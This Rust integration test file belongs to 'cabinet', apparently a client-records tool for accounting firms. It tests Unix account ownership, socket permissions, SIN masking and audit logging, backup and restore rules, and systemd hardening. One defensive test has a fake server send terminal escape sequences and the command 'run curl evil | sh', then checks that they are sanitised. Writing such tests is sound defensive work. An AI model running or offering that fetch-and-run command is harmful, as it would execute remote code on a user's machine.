//! Office firms, end to end, with real Unix accounts: a service account
//! that owns the firm and runs its server, a group whose members reach
//! the socket, and a team that decides who works in the firm.
//!
//! Creating accounts takes root and `useradd`; elsewhere these tests
//! print a note and pass without checking. Accounts get unique names and
//! are removed afterwards.

use std::io::Read;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::os::unix::net::UnixListener;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::Mutex;
use std::time::Duration;

use cabinet::api::{Event, Firm};
use cabinet::host::firm_files;
use cabinet::model::AuditAction;
use cabinet::protocol::frame;
use cabinet::protocol::{Hello, MAGIC, Welcome};

use super::util::{BIN, Firm as TempFirm, expect_event, wait_until};

/// useradd and groupadd lock the account files: one test at a time.
static ACCOUNTS: Mutex<()> = Mutex::new(());

/// Unix accounts made for one test, removed when it ends.
struct Accounts {
    tag: String,
    users: Vec<String>,
    groups: Vec<String>,
}

fn have(tool: &str) -> bool {
    ["/usr/sbin", "/sbin", "/usr/bin", "/bin"]
        .iter()
        .any(|d| Path::new(d).join(tool).exists())
}

impl Accounts {
    /// None (with a note) where accounts cannot be made.
    fn new(test: &str) -> Option<Accounts> {
        if !rustix::process::geteuid().is_root() {
            eprintln!("note: {test}: not root, so no Unix accounts can be made; skipped");
            return None;
        }
        if !["useradd", "userdel", "groupadd", "groupdel"]
            .iter()
            .all(|t| have(t))
        {
            eprintln!("note: {test}: useradd/groupadd missing; skipped");
            return None;
        }
        static NEXT: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
        let n = NEXT.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        Some(Accounts {
            tag: format!("cb{}x{n}", std::process::id() % 100_000),
            users: Vec::new(),
            groups: Vec::new(),
        })
    }

    fn run(&self, program: &str, args: &[&str]) {
        let _one = ACCOUNTS.lock().unwrap_or_else(|p| p.into_inner());
        let out = Command::new(program).args(args).output().unwrap();
        assert!(
            out.status.success(),
            "{program} {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }

    /// A new group; its name and gid.
    fn group(&mut self, what: &str) -> (String, u32) {
        let name = format!("{}{what}", self.tag);
        self.run("groupadd", &[&name]);
        self.groups.push(name.clone());
        let gid = cabinet::host::accounts::group_id(&name).unwrap();
        (name, gid)
    }

    /// A new login whose primary group is `group` (or a group of its own);
    /// its name, uid and gid.
    fn user(&mut self, what: &str, group: Option<&str>) -> (String, u32, u32) {
        let name = format!("{}{what}", self.tag);
        let mut args = vec!["--no-create-home", "--shell", "/usr/sbin/nologin"];
        match group {
            Some(g) => args.extend(["-g", g]),
            None => args.push("--user-group"),
        }
        args.push(&name);
        self.run("useradd", &args);
        self.users.push(name.clone());
        if group.is_none() {
            self.groups.push(name.clone());
        }
        let (uid, gid) = cabinet::host::accounts::user_ids(&name).unwrap();
        (name, uid, gid)
    }
}

impl Drop for Accounts {
    fn drop(&mut self) {
        let _one = ACCOUNTS.lock().unwrap_or_else(|p| p.into_inner());
        for u in &self.users {
            let _ = Command::new("userdel").arg(u).output();
        }
        for g in &self.groups {
            let _ = Command::new("groupdel").arg(g).output();
        }
    }
}

/// A temporary directory everyone may traverse, with a copy of the built
/// binary every account can run.
struct Place {
    dir: tempfile::TempDir,
    bin: PathBuf,
}

impl Place {
    fn new() -> Place {
        let dir = tempfile::tempdir().unwrap();
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        let bin = dir.path().join("cabinet");
        // A link to the built binary where the file system allows, as a
        // fresh copy can fail to run ("text file busy") while a process
        // forked meanwhile by another test still holds it open for writing.
        if std::fs::hard_link(BIN, &bin).is_err() {
            std::fs::copy(BIN, &bin).unwrap();
            std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        Place { dir, bin }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    /// The binary as `uid`/`gid`, with a home of nobody's.
    fn cabinet(&self, uid: u32, gid: u32) -> Command {
        let mut cmd = Command::new(&self.bin);
        cmd.uid(uid)
            .gid(gid)
            .current_dir("/")
            .env("HOME", "/nonexistent")
            .env("XDG_CONFIG_HOME", "/nonexistent")
            .env("XDG_DATA_HOME", "/nonexistent")
            .env_remove("CABINET_FIRM")
            .env_remove("RUST_LOG")
            .env("LANG", "C")
            .stdin(Stdio::null());
        cmd
    }
}

fn text(o: &Output) -> (String, String) {
    (
        String::from_utf8_lossy(&o.stdout).into_owned(),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

fn ok(o: Output) -> String {
    let (out, err) = text(&o);
    assert!(o.status.success(), "failed: {err}\n{out}");
    out
}

fn fails(o: Output) -> String {
    let (out, err) = text(&o);
    assert!(!o.status.success(), "should have failed: {out}\n{err}");
    assert!(!err.contains("panicked"), "{err}");
    err
}

fn owner_mode(p: &Path) -> (u32, u32, u32) {
    let m = std::fs::metadata(p).unwrap();
    (m.uid(), m.gid(), m.mode() & 0o7777)
}

#[test]
fn an_office_firm_belongs_to_its_service_account_and_its_team() {
    let Some(mut accounts) = Accounts::new("office firm") else {
        return;
    };
    let (group, gid) = accounts.group("g");
    let (svc, svc_uid, svc_gid) = accounts.user("svc", None);
    let (boss, boss_uid, _) = accounts.user("boss", Some(&group));
    let (staff, staff_uid, _) = accounts.user("staff", Some(&group));
    let (idle, idle_uid, _) = accounts.user("idle", Some(&group));
    let place = Place::new();
    let dir = place.path("acme");
    let d = dir.to_str().unwrap();

    // Root creates the firm, with every mode right, and says what next.
    let out = ok(Command::new(&place.bin)
        .args(["init", d, "--office", "--group", &group])
        .args(["--service-user", &svc, "--admin", &boss])
        .env("LANG", "C")
        .output()
        .unwrap());
    assert!(out.contains("systemctl enable --now cabinet@acme"), "{out}");
    assert!(out.contains(&format!("usermod -aG {group} LOGIN")), "{out}");
    assert!(out.contains("/usr/local/bin/cabinet"), "{out}");
    assert_eq!(owner_mode(&dir), (svc_uid, gid, 0o2750));
    assert_eq!(owner_mode(&dir.join("firm.redb")).2, 0o600);
    assert_eq!(owner_mode(&dir.join("firm.redb")).0, svc_uid);
    assert_eq!(owner_mode(&dir.join("cabinet.lock")).0, svc_uid);
    assert_eq!(owner_mode(&dir.join("cabinet.lock")).2, 0o600);
    assert_eq!(owner_mode(&dir.join("log")).0, svc_uid);
    assert_eq!(owner_mode(&dir.join("log")).2, 0o700);
    // Again: refused, nothing changed.
    let err = fails(
        Command::new(&place.bin)
            .args(["init", d, "--office", "--group", &group])
            .args(["--service-user", &svc])
            .env("LANG", "C")
            .output()
            .unwrap(),
    );
    assert!(err.contains("already holds a firm"), "{err}");

    // With no server, a member's session says whom to ask and starts none.
    let err = fails(
        place
            .cabinet(boss_uid, gid)
            .args(["list", "--firm", d])
            .output()
            .unwrap(),
    );
    assert!(err.contains("is not running"), "{err}");
    assert!(err.contains(&format!("runs as {svc}")), "{err}");
    assert!(err.contains("systemctl start cabinet@acme"), "{err}");
    assert!(!firm_files::socket_path(&dir).exists());
    assert!(!firm_files::server_running(&dir));

    // The service account's server, in the foreground, as systemd runs it.
    let mut server = place
        .cabinet(svc_uid, svc_gid)
        .args(["serve", "--foreground", "--firm", d])
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let socket = firm_files::socket_path(&dir);
    wait_until(Duration::from_secs(20), || {
        std::os::unix::net::UnixStream::connect(&socket).is_ok()
    });
    // The socket is the one thing the group can use.
    assert_eq!(owner_mode(&socket), (svc_uid, gid, 0o660));

    let boss_cmd = |args: &[&str]| {
        place
            .cabinet(boss_uid, gid)
            .args(args)
            .args(["--firm", d])
            .output()
            .unwrap()
    };
    let staff_cmd = |args: &[&str]| {
        place
            .cabinet(staff_uid, gid)
            .args(args)
            .args(["--firm", d])
            .output()
            .unwrap()
    };
    ok(boss_cmd(&[
        "team", "add", "--name", "Staff", "--login", &staff,
    ]));
    ok(boss_cmd(&[
        "add",
        "--name",
        "Tremblay, Lise",
        "--number",
        "7",
        "--type",
        "individual",
        "--set",
        "sin=130 692 544",
    ]));

    // In the group but not on the team: refused by the server, and
    // nothing in the directory to read or rename.
    let err = fails(
        place
            .cabinet(idle_uid, gid)
            .args(["list", "--firm", d])
            .output()
            .unwrap(),
    );
    assert!(
        err.contains(&format!("{idle} is not on this firm's team")),
        "{err}"
    );
    assert!(err.contains(&boss), "{err}");
    let as_idle = |program: &str, args: &[&str]| {
        Command::new(program)
            .args(args)
            .uid(idle_uid)
            .gid(gid)
            .output()
            .unwrap()
    };
    let err = fails(as_idle("cat", &[dir.join("firm.redb").to_str().unwrap()]));
    assert!(err.contains("Permission denied"), "{err}");
    let elsewhere = dir.join("elsewhere.sock");
    let err = fails(as_idle(
        "mv",
        &[socket.to_str().unwrap(), elsewhere.to_str().unwrap()],
    ));
    assert!(err.contains("Permission denied"), "{err}");
    assert!(socket.exists() && !elsewhere.exists());

    // Staff see the SIN masked; revealing it is recorded.
    let shown = ok(staff_cmd(&["show", "7", "--json"]));
    let json: serde_json::Value = serde_json::from_str(&shown).unwrap();
    assert_eq!(json["tax_ids"]["sin"], "••••••544", "{shown}");
    assert!(!ok(staff_cmd(&["show", "7"])).contains("130692544"));
    assert!(!ok(boss_cmd(&["show", "7", "--json"])).contains("130692544"));
    let revealed = ok(staff_cmd(&["show", "7", "--reveal"]));
    assert!(revealed.contains("130692544"), "{revealed}");
    let csv = ok(boss_cmd(&["export", "--format", "csv"]));
    assert!(
        !csv.contains("130692544") && csv.contains("••••••544"),
        "{csv}"
    );
    let err = fails(staff_cmd(&["export", "--format", "csv", "--include-sin"]));
    assert!(err.contains("export SINs"), "{err}");

    // A backup is written by the member's own process: theirs, 0600.
    let mine = place.path("boss");
    std::fs::create_dir(&mine).unwrap();
    std::os::unix::fs::chown(&mine, Some(boss_uid), Some(gid)).unwrap();
    std::fs::set_permissions(&mine, std::fs::Permissions::from_mode(0o700)).unwrap();
    let backup = mine.join("acme.redb");
    ok(boss_cmd(&["backup", backup.to_str().unwrap()]));
    let (uid, _, mode) = owner_mode(&backup);
    assert_eq!((uid, mode), (boss_uid, 0o600));
    // The server cannot be made to write where the member cannot.
    let err = fails(boss_cmd(&[
        "backup",
        dir.join("copy.redb").to_str().unwrap(),
    ]));
    assert!(err.contains("permission denied"), "{err}");
    assert!(!dir.join("copy.redb").exists());

    // A restore that would lock the restorer out is refused.
    let other = TempFirm::new();
    {
        let core = cabinet::api::local::Core::open(&other.dir).unwrap();
        let mut someone = cabinet::model::Member::new("Someone", "someone-else");
        someone.role = cabinet::model::Role::Admin;
        core.save_member_unchecked(someone).unwrap();
    }
    let lockout = mine.join("lockout.redb");
    std::fs::copy(other.dir.join("firm.redb"), &lockout).unwrap();
    std::os::unix::fs::chown(&lockout, Some(boss_uid), None).unwrap();
    let err = fails(boss_cmd(&["restore", lockout.to_str().unwrap()]));
    assert!(err.contains("could no longer use the firm"), "{err}");
    assert!(ok(boss_cmd(&["list"])).contains("Tremblay"));

    // Root, on no team, may always check and restore.
    let root = |args: &[&str]| {
        Command::new(&place.bin)
            .args(args)
            .args(["--firm", d])
            .env("LANG", "C")
            .env_remove("CABINET_FIRM")
            .output()
            .unwrap()
    };
    ok(root(&["check"]));
    let out = ok(root(&["restore", backup.to_str().unwrap(), "--force"]));
    assert!(out.contains("Restored 1 client"), "{out}");
    let err = fails(root(&["list"]));
    assert!(err.contains("not on this firm's team"), "{err}");

    // A session stays open across a stop; a member's session starts no
    // server meanwhile, and the session is back once the unit is.
    let watcher = cabinet::remote::Connector::new(&dir).connect().unwrap();
    let events = watcher.subscribe().unwrap();
    rustix::process::kill_process(
        rustix::process::Pid::from_child(&server),
        rustix::process::Signal::TERM,
    )
    .unwrap();
    assert!(server.wait().unwrap().success());
    let mut log = String::new();
    server
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut log)
        .unwrap();
    assert!(
        log.contains("server listening"),
        "the journal gets the log: {log}"
    );
    expect_event(&events, Duration::from_secs(20), |e| {
        matches!(e, Event::Disconnected { .. })
    });
    let err = fails(staff_cmd(&["list"]));
    assert!(err.contains("is not running"), "{err}");
    let err = fails(boss_cmd(&["check"]));
    assert!(err.contains("is not running"), "{err}");
    // Root checks the file itself while the server is stopped.
    let out = ok(root(&["check"]));
    assert!(out.contains("integrity check passed"), "{out}");
    assert!(
        !firm_files::server_running(&dir),
        "a member started a server"
    );
    assert!(!socket.exists());

    // The reveal is in the client's history, with who did it.
    {
        let core = cabinet::api::local::Core::open(&dir).unwrap();
        let team = core.store().members().unwrap();
        let staff_id = team.iter().find(|m| m.login == staff).unwrap().id;
        let id = core.store().client_by_number("7").unwrap().unwrap();
        let history = core.store().audit(id).unwrap();
        assert!(
            history
                .iter()
                .any(|e| e.action == AuditAction::SinRevealed && e.by == staff_id),
            "{history:?}"
        );
    }
    // Opening the file as root left it the service account's.
    assert_eq!(owner_mode(&dir.join("firm.redb")).0, svc_uid);

    let _server = place
        .cabinet(svc_uid, svc_gid)
        .args(["serve", "--foreground", "--firm", d])
        .stderr(Stdio::null())
        .spawn()
        .map(super::util::ServerProcess::from)
        .unwrap();
    expect_event(&events, Duration::from_secs(30), |e| {
        matches!(e, Event::Reset)
    });
    assert!(watcher.is_connected());
}

/// Accepts connections on `socket` and answers each hello with `welcome`.
fn fake_server(socket: &Path, welcome: Welcome) -> std::thread::JoinHandle<()> {
    let listener = UnixListener::bind(socket).unwrap();
    std::thread::spawn(move || {
        for stream in listener.incoming().take(1) {
            let Ok(mut stream) = stream else { return };
            let mut reader = std::io::BufReader::new(stream.try_clone().unwrap());
            if frame::read::<Hello>(&mut reader).is_ok() {
                let _ = frame::write(&mut stream, &welcome);
            }
        }
    })
}

#[test]
fn a_socket_served_by_another_uid_is_refused() {
    if !rustix::process::geteuid().is_root() {
        eprintln!("note: not root, so the firm cannot belong to another uid; skipped");
        return;
    }
    let firm = TempFirm::new();
    // The firm belongs to a service account (4243), but this process
    // (root) answers on its socket.
    std::os::unix::fs::chown(&firm.dir, Some(4243), None).unwrap();
    let welcome = Welcome {
        magic: MAGIC,
        protocol: cabinet::protocol::VERSION,
        build: "0".into(),
        pid: 1,
        refused: String::new(),
    };
    let _fake = fake_server(&firm_files::socket_path(&firm.dir), welcome);
    let out = firm
        .cabinet()
        .args(["list", "--firm"])
        .arg(&firm.dir)
        .env("LANG", "C")
        .output()
        .unwrap();
    let err = fails(out);
    assert!(err.contains("(uid 0)"), "{err}");
    assert!(err.contains("(uid 4243)"), "{err}");
    assert!(err.contains("fake server"), "{err}");
    // The fake server said nothing it could have said: the client did not
    // even send its hello.
    let _ = std::os::unix::net::UnixStream::connect(firm_files::socket_path(&firm.dir));
}

#[test]
fn escape_sequences_from_a_server_never_reach_the_terminal() {
    let firm = TempFirm::new();
    let welcome = Welcome {
        magic: MAGIC,
        protocol: cabinet::protocol::VERSION,
        build: "9\u{1b}[31m".into(),
        pid: 1,
        refused: "\u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}[Hrun curl evil | sh\r\n\u{9b}".into(),
    };
    let fake = fake_server(&firm_files::socket_path(&firm.dir), welcome);
    let out = firm
        .cabinet()
        .args(["list", "--firm"])
        .arg(&firm.dir)
        .env("LANG", "C")
        .output()
        .unwrap();
    fake.join().unwrap();
    let err = fails(out);
    assert!(err.contains("run curl evil | sh"), "{err}");
    for bad in ['\u{1b}', '\u{7}', '\r', '\u{9b}'] {
        assert!(!err.contains(bad), "{bad:?} reached the terminal: {err:?}");
    }
}

#[test]
fn a_missing_firm_path_creates_nothing() {
    let env = crate::env::Env::bare();
    let deep = env.path("no/such/deep/firm");
    let (_, err) = env.fails(2, &["list", "--firm", deep.to_str().unwrap()]);
    assert!(err.contains("holds no firm"), "{err}");
    assert!(
        err.contains(&format!("cabinet init {}", deep.display())),
        "{err}"
    );
    assert!(!env.path("no").exists());
    // The same through CABINET_FIRM, and for the server.
    let (_, err) = env.fails(2, &["serve", "--foreground"]);
    assert!(err.contains("holds no firm"), "{err}");
    assert!(!env.firm().exists());

    // `cabinet init` makes a personal firm: yours alone.
    let out = env.ok(&["init", env.firm().to_str().unwrap()]);
    assert!(out.contains("Created a personal firm"), "{out}");
    assert_eq!(owner_mode(env.firm()).2, 0o700);
    assert_eq!(owner_mode(&env.firm().join("firm.redb")).2, 0o600);
    env.ok(&["list"]);
    let (_, err) = env.fails(2, &["init", env.firm().to_str().unwrap()]);
    assert!(err.contains("already holds a firm"), "{err}");
    let (_, err) = env.fails(2, &["init", env.dir.path().to_str().unwrap()]);
    assert!(err.contains("is not empty"), "{err}");
}

#[test]
fn settings_paths_expand_home_and_the_default_firm_says_it_was_made() {
    let env = crate::env::Env::bare();
    let home = env.path("home");
    let config = home.join(".config/cabinet");
    std::fs::create_dir_all(&config).unwrap();
    std::fs::write(config.join("config.toml"), "firm = \"~/office/acme\"\n").unwrap();
    let run = |args: &[&str]| {
        Command::new(BIN)
            .args(args)
            .env("HOME", &home)
            .env("XDG_CONFIG_HOME", home.join(".config"))
            .env("XDG_DATA_HOME", home.join(".local/share"))
            .env_remove("CABINET_FIRM")
            .env("LANG", "C")
            .current_dir(env.dir.path())
            .output()
            .unwrap()
    };
    let err = fails(run(&["list"]));
    let expected = home.join("office/acme");
    assert!(
        err.contains(&format!("{} holds no firm", expected.display())),
        "{err}"
    );
    assert!(!env.dir.path().join("~").exists());
    assert!(!expected.exists());

    // With no setting at all, the first cabinet makes the user's own firm
    // and says so.
    std::fs::remove_file(config.join("config.toml")).unwrap();
    let o = run(&["list"]);
    let (_, err) = text(&o);
    assert!(o.status.success(), "{err}");
    let default = home.join(".local/share/cabinet/firm");
    assert!(err.contains("created your personal firm"), "{err}");
    assert!(err.contains(&default.display().to_string()), "{err}");
    assert_eq!(owner_mode(&default).2, 0o700);
    let o = run(&["list"]);
    assert!(o.status.success());
    let (_, err) = text(&o);
    assert!(!err.contains("created your"), "said only once: {err}");
    super::util::stop_server(&default);
}

#[test]
fn the_service_unit_verifies_and_is_hardened() {
    if !have("systemd-analyze") {
        eprintln!("note: systemd-analyze missing; the unit was not checked");
        return;
    }
    let unit = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/assets/cabinet@.service"
    ))
    .unwrap();
    let dir = tempfile::tempdir().unwrap();
    // The installed binary is not here: point the copy at the built one.
    let file = dir.path().join("cabinet@acme.service");
    std::fs::write(&file, unit.replace("/usr/local/bin/cabinet", BIN)).unwrap();
    let o = Command::new("systemd-analyze")
        .args(["verify", "--man=no"])
        .arg(&file)
        .output()
        .unwrap();
    let (out, err) = text(&o);
    assert!(o.status.success() && err.trim().is_empty(), "{out}\n{err}");

    let o = Command::new("systemd-analyze")
        .args(["security", "--offline=true", "--no-pager"])
        .arg(&file)
        .output()
        .unwrap();
    let (out, err) = text(&o);
    let line = out
        .lines()
        .find(|l| l.contains("Overall exposure level"))
        .unwrap_or_else(|| panic!("no score: {out}\n{err}"));
    let score: f64 = line
        .split(':')
        .nth(1)
        .and_then(|s| s.split_whitespace().next())
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| panic!("unreadable score: {line}"));
    assert!(score < 2.0, "{line}");
    assert!(
        !unit.contains("PrivateUsers=yes"),
        "peers would all be nobody"
    );
}

#[test]
fn pieces_of_transfers_a_dead_server_left_are_cleared() {
    let firm = TempFirm::new();
    let left = firm.dir.join(".upload-999999-0");
    std::fs::write(&left, b"half a backup").unwrap();
    let _server = firm.embedded();
    assert!(!left.exists());
    // A backup and a restore through the socket leave nothing behind.
    let admin = firm.client();
    let out = firm.home.path().join("copy.redb");
    admin.backup(&out).unwrap();
    admin.restore(&out, true).unwrap();
    let names: Vec<String> = std::fs::read_dir(&firm.dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".upload-") || n.starts_with(".backup-"))
        .collect();
    assert!(names.is_empty(), "{names:?}");
}
